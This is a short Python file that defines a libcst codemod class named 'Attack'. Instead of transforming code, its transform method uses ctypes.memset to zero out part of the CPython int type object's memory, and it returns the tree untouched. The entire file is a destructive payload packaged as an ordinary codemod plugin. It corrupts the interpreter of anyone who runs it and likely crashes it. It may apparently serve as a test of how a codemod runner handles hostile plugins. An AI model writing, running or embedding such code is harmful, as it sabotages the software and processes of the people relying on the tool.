"""Write zeros over the type of all whole numbers."""

import ctypes

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Erase."

    def transform_module_impl(self, tree):
        ctypes.memset(id(int) + 16, 0, 200)
        return tree
